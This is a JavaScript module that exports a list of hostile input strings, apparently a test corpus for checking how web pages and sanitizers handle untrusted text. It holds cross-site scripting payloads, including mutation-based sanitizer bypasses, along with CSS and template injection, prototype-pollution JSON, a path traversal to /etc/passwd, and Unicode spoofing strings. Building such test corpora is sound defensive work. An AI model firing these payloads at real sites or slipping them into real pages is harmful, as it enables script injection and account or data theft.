// @ts-check
/** Texts that would run, or break something, on a page that takes them for more than text. */

const RUN = 'window.hacked=1';

/** Markup that runs when a parser meets it. */
const MARKUP = [
  `<script>${RUN}</script>`,
  '<script src=https://example.invalid/x.js></script>',
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>`,
  `<a href="javascript:${RUN}" id=location name=body>x</a>`,
  `<a href="java&#10;script&colon;${RUN}">x</a>`,
  `"><b onmouseover=${RUN} autofocus onfocus=${RUN} tabindex=0>x</b>`,
  `'"--></textarea></p></script><object data="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}><summary>x`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}><input autofocus onfocus=${RUN}>`,
  '<base href="https://example.invalid/">',
  '<meta http-equiv=refresh content="0;url=https://example.invalid/">',
  '<link rel=stylesheet href=https://example.invalid/x.css>',
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<embed src="data:text/html,<script>opener.${RUN}</script>">`,
];

/** Markup that is harmless until something parses it a second time. */
const MUTATING = [
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ` +
    `onerror=${RUN}&gt;">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  '&lt;img src=x onerror=window.hacked=1&gt; &amp; &#60;b&#62; &NewLine;&nbsp;',
  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
  '+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-',
];

/** For what takes a text for a style sheet, a script, a template, a path or a member's name. */
const SYNTAX = [
  '<style>body { display: none } @import "https://example.invalid/x.css";</style>',
  '}; body { background: url(https://example.invalid/x) } {',
  'expression(window.hacked=1); hue: 1; }</style>',
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '${window.hacked = 1}{{constructor.constructor("window.hacked = 1")()}}',
  '$& $1 $` {name} {code} {count} %s %o %c',
  '{"__proto__":{"hacked":1},"type":2,"dataContent":"{}"}',
  '"}],"from":"0","QoS":true,"fp":null}',
  '"); window.hacked=1; //',
  '../../../etc/passwd?x=1#y',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '\\"\\\\/\\b\\f\\n\\r\\t',
];

/** Letters that hide, turn around, break lines or pile up. */
const LETTERS = [
  '\u202egnol thgir \u2066',
  'user\u202etxt.exe\u202c',
  '\u2067\u2067\u2067 isolates that are not closed',
  '\u200b\u200c\u200d\ufeffzero width',
  '\u200b',
  'line\u2028paragraph\u2029next\u0085line',
  'nul \u0000 bell \u0007 escape \u001b[31m delete \u007f',
  'lone \ud800 surrogates \udc00',
  '\ufffe\uffff no characters',
  `flood ${'\u0301\u0337\u0489'.repeat(60)}`,
  `family ${'👨‍👩‍👧‍👦'.repeat(12)}`,
  'ﷺ'.repeat(40),
  `long ${'w'.repeat(700)}`,
  '\u{e0001}\u{e0041} tags',
];

export const HOSTILE_TEXTS = [...MARKUP, ...MUTATING, ...SYNTAX, ...LETTERS];
